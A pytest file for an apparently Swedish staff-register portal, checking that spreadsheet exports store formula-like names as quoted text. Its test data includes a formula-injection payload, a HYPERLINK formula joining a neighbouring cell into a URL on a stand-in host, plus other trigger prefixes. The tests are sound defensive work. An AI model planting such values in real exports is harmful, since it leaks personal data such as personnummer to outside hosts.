"""Spreadsheet formulas are never written into an export (issue 9 item 7).

A name like `=HYPERLINK("http://x"&A2,"Klicka")` typed into the staff register must reach
Excel/LibreOffice as the text it is, beside the personnummer, never as a live formula. Every file
the portal writes goes through `ombud.xlsx`; these tests read each file back and look at the
cell type and at the sheet XML itself (a formula is an `<f>` element there).
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ombud import xlsx
from rapporter import render
from tests.factories import PersonFactory, WorkplaceFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x"&A2,"Klicka")'
TRIGGERS = [HOSTILE, "+46 31 1", "-1+1", "@SUM(A1)", "\tTabb", "\rVagnretur"]


def _no_formulas(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text(content: bytes, value: str) -> None:
    _no_formulas(content)
    # An XML parser reads a stored CR as LF: the text is the same line break.
    hits = [c for c in _cells(content) if c.value in (value, value.replace("\r", "\n"))]
    assert hits, f"{value!r} not in the workbook"
    assert all(c.data_type == "s" for c in hits)
    # Excel's own mark for "typed with a leading '": the cell stays text when a user edits it.
    assert all(c.quotePrefix for c in hits)


def test_staff_export_writes_a_formula_name_as_text(client_as, programme_leader, ale):
    PersonFactory(workplace=WorkplaceFactory(municipality=ale), first_name=HOSTILE, last_name="@Efternamn")
    response = client_as(programme_leader).get(reverse("ombud:person-export"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    _assert_text(content, HOSTILE)
    _assert_text(content, "@Efternamn")


def test_participant_list_writes_a_formula_name_as_text():
    row = {
        "personnummer": "197803141121",
        "last_name": "-Lind",
        "first_name": HOSTILE,
        "gender": "kvinna",
        "target_group": "baspersonal",
        "municipality_code": "1440",
        "municipality": "Ale",
        "workplace": "+Hemtjänst",
        "first_date": None,
        "last_date": None,
        "sessions": 1,
        "participant_hours": 2.5,
    }
    content = render.participants_xlsx([row], meta={})
    for value in (HOSTILE, "-Lind", "+Hemtjänst"):
        _assert_text(content, value)


@pytest.mark.parametrize("value", TRIGGERS)
def test_every_trigger_character_is_written_as_text(value):
    book = xlsx.Workbook()
    book.sheet("Blad", widths=[20]).append([value])
    content = book.to_bytes()
    _assert_text(content, value)


def test_numbers_and_plain_text_stay_what_they_are():
    book = xlsx.Workbook()
    book.sheet("Blad").append(["Anna", -3, 2.5])
    cells = _cells(book.to_bytes())
    assert [(c.value, c.data_type) for c in cells] == [("Anna", "s"), (-3, "n"), (2.5, "n")]
    assert not any(c.quotePrefix for c in cells)
